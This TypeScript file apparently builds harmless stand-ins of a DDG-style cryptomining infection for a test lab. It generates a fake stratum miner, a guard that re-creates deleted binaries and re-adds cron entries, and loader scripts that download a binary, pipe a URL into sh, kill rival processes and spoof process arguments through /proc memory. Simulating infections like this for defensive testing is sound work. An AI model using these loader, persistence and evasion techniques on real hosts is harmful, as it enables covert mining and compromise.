import { posix } from 'node:path';
import { world } from '../addresses.ts';
import { quote } from '../shell.ts';
import type { Guard, Habits, Infection, Miner } from './infection.ts';
import { standInWallet } from './infection.ts';

/**
 * The programs of the stand-ins: bash, read from standard input by a copy of bash, so that the arguments look like the
 * real thing's. Each is one compound command, parsed whole before it turns its standard input to /dev/null.
 * They wait by reading a pipe that nobody writes to, because a `sleep` each would be a new process each.
 */
const beginning = `trap '' PIPE HUP
exec </dev/null >/dev/null 2>&1
exec {idle}<> <(:)`;

/** Strings behind the image, as `strings` would find them in a real miner. */
export const minerPayload = `
miner
Pool
block
mining.subscribe
mining.authorize
{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${standInWallet}"}}
stratum+tcp://${world.pool}:${world.poolPort}
donate-level
cryptonight
${standInWallet}
harmless stand-in of a test lab
`;

export const guardPayload = `
ddg
/tmp/ddg.db
wnTKYg
harmless stand-in of a test lab
`;

/** Less than 4096 bytes, so that bash hands it over in a pipe and makes no temporary file. */
export function minerProgram(miner: Miner): string {
  const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${standInWallet}","pass":"x","agent":"XMRig/6.21.0"}}`;
  const submit =
    '{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"lab","job_id":"lab-1","nonce":"%08x"}}';
  return `{ ${beginning}
${showArguments(miner)}
pool=/dev/tcp/${miner.pool.address}/${miner.pool.port} up= n=1 turn=0
while :; do
  if [[ -z $up ]]; then
    if { exec 3<>$pool; } && printf '%s\\n' '${login}' >&3; then up=1
    else read -r -t 0.25 -u $idle; continue; fi
  fi
  for ((i = 0; i < 500; i++)); do :; done
  read -r -t 0.3 -u 3 line; got=$?
  if ((got > 0 && got < 129)); then up=; exec 3>&-; fi
  if [[ $up ]] && ((++turn % 6 == 0)); then printf '${submit}\\n' $((++n)) $n >&3 || { up=; exec 3>&-; }; fi
done
exit; }
`;
}

/**
 * bash would take the miner's arguments for its own, so it is started with padding of the same length, which it then
 * overwrites in its own memory.
 */
function showArguments(miner: Miner): string {
  if (miner.args.length === 0) return ':';
  return `fields=$(</proc/$$/stat); set -- \${fields##*) }
printf '%s\\0' ${miner.args.map(quote).join(' ')} | dd of=/proc/$$/mem bs=65536 oflag=seek_bytes seek=$((\${46} + ${Buffer.byteLength(miner.path) + 1})) conv=notrunc`;
}

/** The words that start a miner: its path, and padding for its arguments. */
export function minerCommand(miner: Miner): string {
  if (miner.args.length === 0) return quote(miner.path);
  const length = miner.args.reduce((sum, arg) => sum + Buffer.byteLength(arg) + 1, 0);
  return `${quote(miner.path)} -s ${'x'.repeat(Math.max(1, length - 4))}`;
}

export function guardProgram(infection: Infection, guard: Guard): string {
  const { miner, cron } = infection;
  return `{ ${beginning}
{ exec {control}<>/dev/tcp/${world.control}/${world.controlPort}; }
${miner === null ? 'tend() { :; }' : tending(miner, infection.habits)}
lines=(${cron.lines.map(quote).join(' ')})
spools=(${cron.spools.map(quote).join(' ')})
${guard.deleted ? `rm -f ${quote(guard.path)}` : ':'}
while :; do
  tend
  for spool in "\${spools[@]}"; do
    have=(); mapfile -t have <"$spool"
    for line in "\${lines[@]}"; do
      for old in "\${have[@]}"; do [[ $old == "$line" ]] && continue 2; done
      [[ -e $spool ]] || (umask 077; : >"$spool")
      printf '%s\\n' "$line" >>"$spool"
      touch "\${spool%/*}"
    done
  done
  ${infection.habits === 'real' ? 'sleep 0.4' : 'read -r -t 0.15 -u $idle'}
done
exit; }
`;
}

/** Holds the miner's image open, so that it can be written again after the file is gone. */
function tending(miner: Miner, habits: Habits): string {
  const path = quote(miner.path);
  const name = quote(posix.basename(miner.path).slice(0, 15));
  // As watchdogs ask: by name, then by arguments. Its own pid decides, so that a slow start is no second one.
  const looks =
    habits === 'real' ? `pgrep -x ${name} || ps -e -o args | grep -v grep | grep -q -- ${path}` : ':';
  const run = `${habits === 'real' ? 'setsid nohup ' : ''}${minerCommand(miner)}`;
  return `exec {image}<${path}
read -r -d '' program <<'MINER'
${minerProgram(miner)}MINER
child=
tend() {
  ${looks}
  kill -0 $child && ${miner.deleted ? 'return' : `[[ -e ${path} ]] && return`}
  if [[ ! -e ${path} ]]; then
    cat /proc/$$/fd/$image >${path}.new && chmod 755 ${path}.new && mv -f ${path}.new ${path}
  fi
  kill -0 $child && return
  (cd /; exec ${run} <<<"$program" {image}<&- {control}>&- {idle}>&-) & child=$!
  ${miner.deleted ? `until [[ /proc/$child/exe -ef ${path} ]] || ! kill -0 $child; do read -r -t 0.01 -u $idle; done; rm -f ${path}` : ':'}
}`;
}

/** The loader script, in the shape that the procedure describes. Only its hanging download is ever reached. */
export function loaderText(infection: Infection, url: string): string {
  return infection.habits === 'real' ? realLoaderText(infection, url) : quietLoaderText(infection, url);
}

/**
 * As loaders are found: a subshell that watches in the background, rivals killed by name (bystanders among them; never reached),
 * cron lines put back by a decoded one-liner.
 */
function realLoaderText(infection: Infection, url: string): string {
  const host = url.replace(/\/i\.sh$/, '');
  const guard = infection.guard?.path ?? '/tmp/ddg.2021';
  const name = posix.basename(infection.miner?.path ?? 'wnTKYg');
  const put = infection.cron.spools
    .flatMap((spool) => infection.cron.lines.map((line) => `echo "${line}" >> ${spool}`))
    .join('\n');
  return `#!/bin/sh
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin

rivals() {
  pkill -9 -f /tmp/build-4711/compile
  pkill -f kdevtmpfsi
  ps aux | grep -v grep | grep 'postgres: checkpoint' | awk '{print $2}' | xargs -I % kill -9 %
  test -x /usr/local/bin/backup && rm -f /tmp/wnTKYg.bak.txt
}

keep() {
  mkdir -p /var/spool/cron/crontabs
  echo ${Buffer.from(`${put}\n`).toString('base64')} | base64 -d | sh
}

again() {
  curl -fsSL ${url} | sh
}

(
  while true; do
    sleep 1
    pgrep -x ${name} >/dev/null || ps aux | grep -v grep | grep -q ${guard} || :
  done
) &
# ${guard} fetches ${infection.miner?.path ?? 'the miner'} and guards it.
curl -fsSL ${host}/2021/ddg.$(uname -m) -o ${guard}.part || exit 1
chmod +x ${guard}.part && nohup ${guard} >/dev/null 2>&1 && exit 0
rivals
keep
again
`;
}

function quietLoaderText(infection: Infection, url: string): string {
  const host = url.replace(/\/i\.sh$/, '');
  const guard = infection.guard?.path ?? '/tmp/ddg.2021';
  return `#!/bin/sh
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin

keep() {
  mkdir -p /var/spool/cron/crontabs
${infection.cron.spools.flatMap((spool) => infection.cron.lines.map((line) => `  echo "${line}" >> ${spool}`)).join('\n')}
}

again() {
  curl -fsSL ${url} | sh
}

# ${guard} fetches ${infection.miner?.path ?? 'the miner'} and guards it.
curl -fsSL ${host}/2021/ddg.$(uname -m) -o ${guard}.part || exit 1
chmod +x ${guard}.part && exit 0
keep
again
`;
}
